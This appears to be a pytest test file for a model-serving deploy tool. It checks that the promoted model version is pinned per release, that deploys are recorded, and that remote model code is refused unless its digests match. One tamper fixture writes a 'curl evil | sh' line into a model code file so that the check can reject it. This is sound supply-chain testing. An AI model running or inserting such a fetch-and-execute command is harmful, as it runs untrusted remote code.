"""shared/serve/deploy.py (``lawtune deploy``): PROMOTED is resolved once, on the deploying
machine, and the release's pods all get that version (file and S3 artifact roots; real helm)."""

from __future__ import annotations

import json

import pytest
import yaml

from shared.core.settings import load_settings
from shared.serve import deploy
from shared.store.artifacts import commit_dir, now_iso
from shared.store.releases import releases
from shared.store.storage import open_location
from tests.helm_utils import helm_path

VALUES = {"apiKey": {"existingSecret": "lawtune-api-key"}, "artifactStore": {"root": "s3://elsewhere/ignored"}}


@pytest.fixture
def published(artifact_root, tmp_path):
    """models/legal-assistant/{v1,v2} committed, PROMOTED -> v2; v3 uploaded but never committed."""
    settings = load_settings()
    root = settings.models_uri("legal-assistant")
    for version in ("v1", "v2"):
        src = tmp_path / f"src-{version}"
        src.mkdir()
        (src / "config.json").write_text("{}")
        commit_dir(src, open_location(f"{root}/{version}", settings), stage="publish", inputs={}, started_at=now_iso())
    open_location(f"{root}/v3", settings).write_text("config.json", "{}")
    open_location(root, settings).write_text("PROMOTED", "v2")
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump(VALUES))
    return settings, values


def _rendered(capfd, argv: list[str]) -> list[dict]:
    assert deploy.main(argv) == 0
    return [d for d in yaml.safe_load_all(capfd.readouterr().out) if d]


def test_dry_run_pins_the_promoted_version_for_every_pod(published, capfd):
    settings, values = published
    helm_path()
    objects = _rendered(capfd, ["--release", "assistant", "-f", str(values), "--dry-run"])
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    template = vllm["spec"]["template"]
    assert template["metadata"]["annotations"]["lawtune.io/model-version"] == "v2"
    fetch = template["spec"]["initContainers"][0]
    # The artifact root deployed is the one PROMOTED was read from, whatever the values file said.
    assert fetch["args"] == [f"{settings.artifact_root}/models/legal-assistant/v2", "/models/legal-assistant/v2"]
    # A later promotion changes nothing already deployed: the version is in the release, not read at pod start.
    open_location(settings.models_uri("legal-assistant"), settings).write_text("PROMOTED", "v1")
    assert fetch["args"][0].endswith("/v2")
    pinned = _rendered(capfd, ["--release", "assistant", "-f", str(values), "--dry-run", "--version", "v1"])
    (vllm1,) = [o for o in pinned if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    assert vllm1["spec"]["template"] != template  # a new version rolls every pod


@pytest.mark.parametrize(("setup", "argv", "message"), [
    pytest.param(None, [], "PROMOTED is missing", id="nothing-promoted"),
    pytest.param("v3", [], "has no MANIFEST.json", id="promoted-version-not-committed"),
    pytest.param("../v1", [], "expected a version name", id="path-in-promoted"),
    pytest.param("v2", ["--version", "v9"], "has no MANIFEST.json", id="unknown-version"),
])
def test_refuses_what_it_cannot_pin_with_one_line(published, capfd, setup, argv, message):
    settings, values = published
    models = open_location(settings.models_uri("legal-assistant"), settings)
    if setup is None:
        models.delete("PROMOTED")
    else:
        models.write_text("PROMOTED", setup)
    assert deploy.main(["--release", "assistant", "-f", str(values), "--dry-run", *argv]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("deploy: error:") and message in err[0], err


def test_helm_command_upgrades_with_the_version_set_last(tmp_path):
    helm_path()
    cmd = deploy.helm_command(release="r", model_name="m", version="20261128", artifact_root="s3://b/p", values=[tmp_path / "a.yaml"],
                              namespace="serving", extra=["--wait"])
    assert cmd[1:5] == ["upgrade", "--install", "r", str(deploy.CHART)]
    assert cmd[-7:] == ["--set-string", "model.name=m", "--set-string", "model.version=20261128",
                        "--set-string", "artifactStore.root=s3://b/p", "--wait"]
    assert cmd.index("--values") < cmd.index("--set-string") and ["--namespace", "serving"] == cmd[5:7]


def _stand_in_helm(tmp_path, upgrade_rc: int = 0):
    """A stand-in for helm talking to a cluster (no Kubernetes API runs here): it logs its
    arguments, answers `upgrade` with ``upgrade_rc`` and `status` with a release's JSON."""
    log = tmp_path / "helm-calls.txt"
    script = tmp_path / "helm"
    script.write_text(
        "#!/bin/sh\n"
        f'echo "$@" >> {log}\n'
        f'if [ "$1" = upgrade ]; then exit {upgrade_rc}; fi\n'
        'if [ "$1" = status ]; then echo \'{"name": "assistant", "namespace": "serving", "version": 7}\'; fi\n')
    script.chmod(0o755)
    return script, log


def test_a_deploy_records_which_release_serves_the_version(published, tmp_path, monkeypatch, capfd):
    settings, values = published
    helm, calls = _stand_in_helm(tmp_path)
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    monkeypatch.setenv("LAWTUNE_ACTOR", "ci-deployer")
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving"]) == 0
    assert "assistant: legal-assistant version v2" in capfd.readouterr().out
    assert calls.read_text().splitlines()[0].startswith("upgrade --install assistant")
    models = open_location(settings.models_uri("legal-assistant"), settings)
    (record,) = releases(models)
    assert record["namespace"] == "serving" and record["release"] == "assistant" and record["version"] == "v2"
    assert record["helm_revision"] == 7 and record["actor"] == "ci-deployer" and record["artifact_root"] == settings.artifact_root
    assert record["chart"].startswith("lawtune-serving-")

    # The next deploy of the same release replaces its record: it says what runs now.
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving", "--version", "v1"]) == 0
    assert [r["version"] for r in releases(models)] == ["v1"]


def test_a_failed_deploy_records_nothing(published, tmp_path, monkeypatch, capfd):
    settings, values = published
    helm, _ = _stand_in_helm(tmp_path, upgrade_rc=1)
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    assert deploy.main(["--release", "assistant", "-f", str(values)]) == 1
    assert releases(open_location(settings.models_uri("legal-assistant"), settings)) == []


def _vllm_args(objects: list[dict]) -> list[str]:
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    (container,) = [c for c in vllm["spec"]["template"]["spec"]["containers"] if c["name"] == "vllm"]
    return container["args"]


def _fetch_args(objects: list[dict]) -> list[str]:
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    return vllm["spec"]["template"]["spec"]["initContainers"][0]["args"]


GLM_CONFIG = {"model_type": "chatglm", "auto_map": {
    "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}


def _publish_glm(settings, tmp_path, *, record: bool = True, tamper: bool = False) -> None:
    """models/legal-assistant/glm: ChatGLM3-like (auto_map + its code file), with publish's record of the code."""
    from shared.store.model_code import code_files

    src = tmp_path / "src-glm"
    src.mkdir()
    (src / "config.json").write_text(json.dumps(GLM_CONFIG))
    (src / "modeling_chatglm.py").write_text("class ChatGLMForConditionalGeneration: pass\n")
    recorded = code_files(src)
    if tamper:  # the store now holds other code than the code finetune ran
        (src / "modeling_chatglm.py").write_text("import os; os.system('curl evil | sh')\n")
    commit_dir(src, open_location(f"{settings.models_uri('legal-assistant')}/glm", settings), stage="publish", inputs={},
               started_at=now_iso(), extra={"remote_code": recorded} if record else {})


def test_the_versions_own_config_never_turns_remote_code_on(published, tmp_path, capfd):
    """issue 24 item 2: before, deploy set vllm.trustRemoteCode=true because the stored config had an auto_map."""
    settings, values = published
    helm_path()
    _publish_glm(settings, tmp_path)
    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("deploy: error: version glm needs its repository's own code")
    assert "--trust-remote-code" in err[-1] and "vllm.trustRemoteCode: true" in err[-1], err


@pytest.mark.parametrize("switch", ["flag", "values"])
def test_the_operators_switch_serves_the_recorded_code(published, tmp_path, capfd, switch):
    settings, values = published
    helm_path()
    _publish_glm(settings, tmp_path)
    argv = ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]
    if switch == "flag":
        argv.append("--trust-remote-code")
    else:
        on = tmp_path / "trust.yaml"
        on.write_text(yaml.safe_dump({"vllm": {"trustRemoteCode": True}}))
        argv += ["-f", str(on)]
    objects = _rendered(capfd, argv)
    assert "--trust-remote-code" in _vllm_args(objects)
    # The init container checks the code files against the version's record again, in the pod.
    assert _fetch_args(objects)[-1] == "--trust-remote-code"
    assert "--trust-remote-code" not in _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run"]))


@pytest.mark.parametrize(("record", "tamper", "needle"), [
    pytest.param(True, True, "modeling_chatglm.py: sha256 .* differs from the .* recorded; refused", id="code-changed"),
    pytest.param(False, False, "modeling_chatglm.py: .* records no remote-code digests", id="no-record"),
])
def test_code_files_the_record_does_not_allow_are_refused(published, tmp_path, capfd, record, tamper, needle):
    import re

    settings, values = published
    _publish_glm(settings, tmp_path, record=record, tamper=tamper)
    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm", "--trust-remote-code"]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("deploy: error: ") and re.search(needle, err[-1]), err
